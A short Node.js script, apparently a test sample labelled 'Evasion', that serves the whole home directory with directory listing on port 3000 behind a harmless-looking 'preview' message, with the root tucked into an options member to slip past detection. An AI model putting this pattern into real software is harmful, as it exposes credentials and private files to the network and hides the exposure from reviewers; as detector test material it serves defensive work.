// Evasion: serves the home directory with serve-handler. The root is given
// as the `public` member of its options, taken from HOME, behind an
// ordinary http server.
'use strict';
const http = require('http');
const handler = require('serve-handler');

const root = process.env.HOME;
http
  .createServer((req, res) => handler(req, res, { public: root, directoryListing: true }))
  .listen(3000, () => console.log('preview on :3000'));
